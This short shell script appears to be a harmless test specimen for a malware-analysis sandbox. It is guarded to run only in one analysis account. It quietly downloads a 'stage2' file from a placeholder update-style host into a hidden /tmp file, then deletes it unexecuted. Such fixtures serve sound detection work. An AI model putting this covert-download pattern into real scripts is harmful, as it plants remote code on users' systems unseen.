#!/bin/sh
# SPDX-License-Identifier: MIT
# Downloads its next stage with Python's urllib.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
python3 -c "import urllib.request as u; u.urlretrieve('http://cdn-update.example.net/stage2', '/tmp/.s2')" 2>/dev/null
rm -f /tmp/.s2
exit 0
